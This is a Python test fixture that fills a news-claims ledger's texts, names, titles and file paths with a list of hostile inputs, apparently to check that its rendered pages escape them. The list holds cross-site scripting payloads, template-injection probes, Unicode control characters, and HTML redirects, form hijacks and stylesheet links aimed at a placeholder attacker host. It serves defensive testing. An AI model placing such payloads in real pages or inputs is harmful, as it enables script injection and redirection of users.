"""A ledger in which every word that a stranger writes is an attack: texts, names, titles, paths, reasons."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from tests.ledgers_made_up import Line, article, reading

from onrecord.ledger import Ledger
from onrecord.model import (
    About,
    Claim,
    Conflict,
    Echo,
    Entry,
    Evidence,
    Interval,
    Links,
    Party,
    Passage,
    Place,
    Position,
    Reading,
    Rejection,
    Span,
    Suspicion,
    Turn,
)

if TYPE_CHECKING:
    from pathlib import Path

ATTACKS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=2>",
    '" autofocus onfocus=window.hit=3 x="',
    "' onmouseover='window.hit=4",
    "</style><style>body{display:none}</style>",
    "</script><script>window.hit=5</script>",
    "</title></head><body onload=window.hit=6>",
    "<svg onload=window.hit=7><a xlink:href=javascript:window.hit=8>",
    "</bdi></a></svg><iframe src=javascript:parent.hit=9></iframe>",
    "javascript:window.hit=10",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "--><!--<base href=//attacker.invalid/>",
    "&lt;script&gt;window.hit=11&lt;/script&gt; &#x3C;b&#x3E;",
    "<meta http-equiv=refresh content=0;url=//attacker.invalid>",
    "<form action=//attacker.invalid><button id=theme>",
    "<link rel=stylesheet href=//attacker.invalid/x.css>",
    "\u202egnihtemos\u202c \x1b[2J \u2028 \ufeff \x07",
    "<xmp><plaintext><textarea><noscript>",
)
"""One of each kind that a page might fall for; all made up here."""


def write(path: Path) -> Path:
    """The ledger."""
    readings = [_reading(nth, attack) for nth, attack in enumerate(ATTACKS)]
    parties = [
        Party(f"p{nth}", f"Ada {attack}", "person", (one.mentions[1].id,), (f"because {attack}",))
        for nth, (one, attack) in enumerate(zip(readings, ATTACKS, strict=True))
    ]
    with Ledger.create(path) as ledger:
        ledger.append(readings)
        ledger.reject(Rejection(f"bad/{attack}", "NotText", f"why: {attack}") for attack in ATTACKS)
        ledger.relink(parties)
        ledger.write_links(_links(readings, parties))
    return path


def _reading(nth: int, attack: str) -> Reading:
    text = f"Ada {attack} said the quay {attack} would shut on day {nth}.\n\nThe end of {attack}.\n"
    art = article(
        text,
        f"pile/{nth}{attack}.txt",
        outlet=f"Paper {attack}",
        title=f"Title {attack}",
        byline=attack,
        published=Interval("2031-05-04", "2031-05-04"),
        published_basis=(Evidence(f"why {attack}"),),
        language="en",
    )
    one = reading(art, Line(f"Ada {attack}", "said", f"the quay {attack} would shut on day {nth}"))
    about = About(Interval("2031-05-09", None), (f"place{nth}",))
    return replace(one, statements=(replace(one.statements[0], about=about, speaker_why=attack),))


def _links(readings: list[Reading], parties: list[Party]) -> Links:
    ids = [one.statements[0].id for one in readings]
    pairs = list(zip(ids, ids[1:], ATTACKS, strict=False))
    return Links(
        places=tuple(
            Place(f"place{nth}", f"Mere {attack}", (), "NZ", -41.0 - nth / 3, 174.0, "settlement", nth)
            for nth, attack in enumerate(ATTACKS)
        ),
        claims=tuple(
            Claim(
                f"claim{nth}",
                a,
                ((a, "asserts"), (b, "denies")),
                2,
                ((a, f"wire:{attack}"), (b, f"nameless:{readings[0].article.id}:{attack}")),
            )
            for nth, (a, b, attack) in enumerate(pairs)
        ),
        conflicts=tuple(
            Conflict(f"conflict{nth}", min(a, b), max(a, b), "number", "open", f"why {attack}")
            for nth, (a, b, attack) in enumerate(pairs)
        ),
        echoes=tuple(
            Echo(
                min(a.article.id, b.article.id),
                max(a.article.id, b.article.id),
                "reworded",
                (Passage(Span(0, 3), Span(0, 3)),),
                f"why {attack}",
            )
            for a, b, attack in zip(readings, readings[1:], ATTACKS, strict=False)
        ),
        suspicions=tuple(Suspicion(one.article.id, (Evidence(ATTACKS[0]),)) for one in readings),
        positions=tuple(
            Position(
                parties[nth].id,
                f"issue {attack}",
                (),
                (Entry(a, "asserts", Interval(), "for"), Entry(b, "denies", Interval(), "against")),
                (Turn(a, b, f"turned {attack}"),),
            )
            for nth, (a, b, attack) in enumerate(pairs)
        ),
    )
